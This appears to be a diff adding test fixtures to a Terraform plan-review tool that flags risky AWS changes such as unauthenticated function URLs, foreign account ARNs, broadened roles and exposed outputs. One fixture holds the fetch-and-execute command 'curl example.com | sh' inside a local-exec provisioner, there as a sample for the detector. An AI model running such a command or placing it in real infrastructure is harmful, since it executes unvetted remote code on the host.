@@ -56,6 +56,15 @@ const LOGS = "aws_cloudwatch_log_group.l";
 const DEPLOYMENT = "aws_api_gateway_deployment.deployment";
 const METHOD = "aws_api_gateway_method.GET__a_0";
 
+const STRANGE_TOPIC = "arn:aws:sns:us-east-1:999999999999:t";
+const runsAs = (role: string) => ({
+  function_name: "f",
+  role: `arn:aws:iam::123456789012:role/stack-${role}`,
+});
+const tableKept = (deletion_protection_enabled: boolean): Resources => ({
+  "aws_dynamodb_table.t": { name: "t", deletion_protection_enabled },
+});
+
 /** For each kind a plan in which it is found, and what it says. */
 const EXAMPLES: {
   readonly [Kind in Finding["kind"]]: readonly [plan: ReturnType<typeof between>, finding: object];
@@ -123,6 +132,134 @@ const EXAMPLES: {
     }),
     { api: "stack-api", stage: "dev", missed: [API] },
   ],
+  "setting-changed": [
+    between(
+      { "aws_lambda_function_url.u": { function_name: "f", authorization_type: "AWS_IAM" } },
+      { "aws_lambda_function_url.u": { function_name: "f", authorization_type: "NONE" } },
+    ),
+    {
+      what: "function URL",
+      name: "f",
+      address: "aws_lambda_function_url.u",
+      action: "update",
+      effect: "anyone can call it without a signature",
+      settings: [{ path: "authorization_type", before: "AWS_IAM", after: "NONE", isUnknown: false }],
+    },
+  ],
+  "account-appears": [
+    between(
+      { "aws_x.y": { to: "arn:aws:sns:us-east-1:123456789012:t" } },
+      { "aws_x.y": { to: STRANGE_TOPIC } },
+    ),
+    { account: "999999999999", in: [{ address: "aws_x.y", path: "to" }] },
+  ],
+  "role-exchanged": [
+    between(
+      { ...aRole("r"), ...aRole("w", allow("s3:*", "*")), "aws_lambda_function.f": runsAs("r") },
+      { ...aRole("r"), ...aRole("w", allow("s3:*", "*")), "aws_lambda_function.f": runsAs("w") },
+    ),
+    { function: "f", from: "stack-r", to: "stack-w", allows: ["s3:*"] },
+  ],
+  "deployment-not-read": [
+    between(signed, {
+      ...signed,
+      "aws_api_gateway_stage.old": { rest_api_id: "abc123", stage_name: "old", deployment_id: "old123" },
+    }),
+    { api: "stack-api", stage: "old", deployment: "old123" },
+  ],
+  "place-changed": [
+    planBetween(
+      { "aws_dynamodb_table.t": { name: "t", arn: "arn:aws:dynamodb:eu-west-1:123456789012:table/t" } },
+      {},
+    ),
+    { what: "region", from: "eu-west-1", to: "us-east-1" },
+  ],
+  drifted: [
+    planBetween(
+      tableKept(true),
+      tableKept(true),
+      {},
+      {
+        resource_drift: [
+          {
+            address: "aws_dynamodb_table.t",
+            mode: "managed",
+            type: "aws_dynamodb_table",
+            change: { actions: ["update"], before: { ttl: [] }, after: { ttl: [{ enabled: true }] } },
+          },
+        ],
+        configuration: {},
+      },
+    ),
+    { address: "aws_dynamodb_table.t", how: "changed", attributes: ["ttl.enabled"], isUndone: false },
+  ],
+  "check-failed": [
+    planBetween(
+      {},
+      {},
+      {},
+      {
+        checks: [
+          {
+            address: { to_display: "check.signed" },
+            status: "fail",
+            instances: [{ status: "fail", problems: [{ message: "not signed" }] }],
+          },
+        ],
+      },
+    ),
+    { address: "check.signed", problems: ["not signed"] },
+  ],
+  "runs-program": [
+    planBetween(
+      {},
+      {},
+      {},
+      {
+        configuration: {
+          root_module: {
+            resources: [
+              {
+                address: "null_resource.n",
+                provisioners: [
+                  {
+                    type: "local-exec",
+                    expressions: { command: { constant_value: "curl example.com | sh" } },
+                  },
+                ],
+              },
+            ],
+          },
+        },
+      },
+    ),
+    { address: "null_resource.n", by: "local-exec", command: "curl example.com | sh" },
+  ],
+  "output-exposed": [
+    planBetween(
+      {},
+      { [KEY]: { name: "k", value: "Kx7pQ2mZ9vT4wB8nR5jL1cF6" } },
+      {},
+      {
+        output_changes: {
+          shown: { actions: ["create"], after: "Kx7pQ2mZ9vT4wB8nR5jL1cF6", after_sensitive: false },
+        },
+      },
+    ),
+    { output: "shown" },
+  ],
+  "not-planned": [
+    planBetween(
+      {},
+      {},
+      {},
+      {
+        deferred_changes: [{ reason: "provider_config_unknown", resource_change: { address: "aws_x.y" } }],
+      },
+    ),
+    { address: "aws_x.y" },
+  ],
+  "plan-partial": [planBetween(tableKept(true), {}, {}, { resource_changes: [] }), { leftOut: 1 }],
   "plan-incomplete": [planBetween({}, {}, {}, { errored: true }), {}],
 };
 
@@ -152,6 +289,7 @@ test("the review of a plan as a whole", () => {
     schemaVersion: 1,
     verdict: "needs care",
     findings: [expect.objectContaining({ kind: "gate-lost" })],
+    notJudged: [],
     changedAreas: ["routes"],
     actions: { update: 2, replace: 1 },
     outputs: [],
@@ -160,6 +298,7 @@ test("the review of a plan as a whole", () => {
     schemaVersion: 1,
     verdict: "nothing changes",
     findings: [],
+    notJudged: [],
     changedAreas: [],
     actions: {},
     outputs: [],
